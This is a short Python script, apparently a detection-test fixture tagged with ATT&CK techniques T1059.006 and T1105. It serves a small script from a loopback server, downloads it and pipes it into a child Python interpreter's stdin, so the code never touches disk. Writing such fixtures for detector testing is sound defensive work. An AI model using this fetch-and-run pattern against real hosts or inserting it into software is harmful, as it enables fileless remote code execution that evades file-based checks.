# technique: T1059.006 T1105
"""Downloaded code piped into a child interpreter's stdin (T1059.006, T1105).

The `curl … | python3 -` pattern done from Python: fetch a script from a
loopback URL, start sys.executable with "-" (read program from stdin) and
write the downloaded text to its stdin with communicate(). The code never
exists as a file and is never passed on a command line.

A good detector raises a high alert: an interpreter runs a program read from
a pipe whose content came from the network.
"""
import http.server, subprocess, sys, threading, urllib.request

CODE = b"import subprocess\nsubprocess.run(['id'], stdout=subprocess.DEVNULL)\n"
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(CODE)
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
try:
    code = urllib.request.urlopen(f"http://127.0.0.1:{srv.server_address[1]}/install.py", timeout=3).read()
    subprocess.run([sys.executable, "-"], input=code, timeout=5)
except Exception:
    pass
finally:
    srv.shutdown()
